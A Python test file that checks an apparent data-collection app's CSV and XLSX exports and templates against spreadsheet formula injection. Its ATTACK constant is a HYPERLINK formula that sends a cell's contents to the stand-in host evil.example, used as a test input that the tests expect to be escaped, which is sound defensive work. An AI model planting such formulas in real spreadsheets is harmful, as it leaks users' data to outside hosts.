"""Defect 9 of issue 16: what a reporter typed never runs as a spreadsheet formula in an
export or a template (OWASP CSV injection), and an export still re-imports unchanged."""

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from dxmon.access.schemas import Principal, Role
from dxmon.collect import flows, service, templates
from dxmon.store.db import transaction

RATE = "fibre_broadband_household_rate"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"xem")'
ANALYST = Principal(user_id=1, username="ana", role=Role.ANALYST)


def _store(engine, comment: str, scope: str = "agency:P01") -> None:
    with transaction(engine) as session:
        service.record_observation(session, key=service.ObservationKey(RATE, scope, "2024-08"),
                                   value=Decimal(80), comment=comment, status="draft")


def test_csv_export_escapes_formulas_and_reimports_unchanged(engine):
    _store(engine, ATTACK)
    _store(engine, "@SUM(1+1)", "agency:P79")
    with transaction(engine) as session:
        data = flows.export_period(session, "2024-08", "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert sorted(row["comment"] for row in rows) == ["'" + ATTACK, "'@SUM(1+1)"]
    with transaction(engine) as session:
        summary = flows.import_bytes(session, data, "again.csv", dry_run=True)
    assert (summary.unchanged, summary.created, summary.updated) == (2, 0, 0)


def test_xlsx_export_and_template_hold_text_not_formulas(engine):
    _store(engine, ATTACK)
    with transaction(engine) as session:
        exported = flows.export_period(session, "2024-08", "xlsx")
        template, _name = templates.build(session, user=ANALYST, agency="P01", period="2024-08")
    for data in (exported, template):
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == ATTACK]
        assert cells and all(cell.data_type == "s" for cell in cells)
